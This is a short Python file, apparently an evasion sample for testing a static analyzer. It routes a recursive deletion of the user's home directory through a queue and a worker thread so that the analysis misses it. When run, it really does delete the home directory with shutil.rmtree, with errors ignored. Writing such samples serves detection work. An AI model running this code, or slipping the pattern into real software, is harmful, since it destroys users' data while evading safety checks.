# Evasion: a background job runner: jobs are dictionaries put on a
# queue.Queue and taken off by a worker thread; the one "purge" job names
# the home directory, and the worker removes job["path"] recursively.
# Hides as: the path travels through a queue (a container the analysis does
# not see into) and a thread; the worker's code only reads job["path"].
import os
import queue
import shutil
import threading

jobs = queue.Queue()


def worker():
    while True:
        job = jobs.get()
        if job is None:
            break
        if job["op"] == "purge":
            shutil.rmtree(job["path"], ignore_errors=True)
        else:
            print("listing", job["path"], len(os.listdir(job["path"])))
        jobs.task_done()


def main():
    t = threading.Thread(target=worker, daemon=True)
    t.start()
    jobs.put({"op": "purge", "path": os.path.expanduser("~")})
    jobs.put(None)
    t.join()


if __name__ == "__main__":
    main()
